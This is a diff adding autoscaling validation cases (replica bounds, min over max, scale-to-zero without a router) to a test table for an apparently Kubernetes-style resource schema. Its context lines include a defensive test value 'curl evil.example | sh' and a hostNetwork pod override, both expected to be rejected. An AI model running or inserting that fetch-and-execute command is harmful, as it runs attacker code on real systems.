@@ -128,6 +128,48 @@ TABLE = [
     row("memory-0", ("resources.memory", "0Gi"), SCHEMA, "must be more than 0"),
     row("cpu-0", ("resources.cpu", "0.0m"), SCHEMA, "must be more than 0"),
     row("cpu-huge", ("resources.cpu", "9" * 1000), SCHEMA, "32"),
+    # -- autoscaling: bounds that invert, pools that would wait forever at zero -------------
+    row(
+        "autoscaling-max-1e9",
+        ("autoscaling.unified.maxReplicas", 10**9),
+        SCHEMA,
+        f"{AT_MOST} 1000",
+    ),
+    row(
+        "autoscaling-min-over-max",
+        {"autoscaling": {"unified": {"minReplicas": 9, "maxReplicas": 3}}},
+        SCHEMA,
+        "spec.autoscaling.unified",
+        "minReplicas must be at most maxReplicas",
+    ),
+    row(
+        "autoscaling-zero-behind-no-router",
+        {
+            "topology": {"router": {"replicas": 0}},
+            "autoscaling": {"prefill": {"minReplicas": 0, "maxReplicas": 2}},
+        },
+        SCHEMA,
+        "minReplicas 0 needs a router to hold requests",
+        to=SPLIT,
+    ),
+    row(
+        "autoscaling-decode-when-unified",
+        {"autoscaling": {"decode": {"maxReplicas": 2}}},
+        SCHEMA,
+        "only allowed when mode is disaggregated",
+    ),
+    row(
+        "autoscaling-period-1e9",
+        ("autoscaling.unified.scaleUp.periodSeconds", 10**9),
+        SCHEMA,
+        f"{AT_MOST} 1800",
+        to={"autoscaling": {"unified": {"maxReplicas": 2}}},
+    ),
+    row(
+        "autoscaling-scale-to-zero",
+        {"autoscaling": {"unified": {"minReplicas": 0, "maxReplicas": 4}}},
+        RENDERED,
+    ),
     # -- unknown fields: refused by strict decoding, pruned otherwise, never in a pod --------
     row("unknown-command", ("command", ["sh", "-c", "curl evil.example | sh"]), SCHEMA),
     row("unknown-pod-template", ("podTemplate", {"spec": {"hostNetwork": True}}), SCHEMA),
